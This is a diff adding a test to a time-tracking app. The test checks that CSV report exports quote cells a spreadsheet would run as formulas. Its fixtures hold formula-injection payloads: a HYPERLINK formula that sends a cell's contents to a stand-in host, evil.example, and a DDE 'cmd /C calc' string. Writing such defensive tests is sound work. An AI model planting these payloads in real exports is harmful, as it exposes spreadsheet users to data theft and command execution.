@@ -63,6 +63,18 @@ async def test_csv_export_streams_the_report_and_refuses_clients_and_anonymous(a
     assert (await api.client.get("/reports/time.csv?from=yesterday&to=2026-11-30", headers={"Authorization": f"Bearer {world.admin.token}"})).status_code == 400
 
 
+async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted(api, world):
+    formula = '=HYPERLINK("https://evil.example/?d="&C2,"x")'
+    project = await Project.create(workspace_id=world.admin.user.workspace_id, name="+cmd|' /C calc'!A0", hourly_rate=Decimal("60.00"))
+    task = await Task.create(workspace_id=world.admin.user.workspace_id, project=project, title="T")
+    await User.filter(id=world.staff.user.id).update(name="@SUM(1+1)*cmd")
+    await TimeEntry.create(task=task, user=world.staff.user, minutes=30, date="2026-11-03", billable=True, note=formula)
+    url = "/reports/time.csv?from=2026-11-03&to=2026-11-03"
+    response = await api.client.get(url, headers={"Authorization": f"Bearer {world.admin.token}"})
+    [header, row] = list(csv.reader(io.StringIO(response.text)))
+    assert row == ["2026-11-03", "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd", "30", "yes", "30.00", "'" + formula]
+
+
 async def test_effective_language_falls_back_from_person_to_organization_to_workspace(api, factory):
     admin = await factory.workspace(language="ru")
     acme = await factory.organization(admin, "Acme")
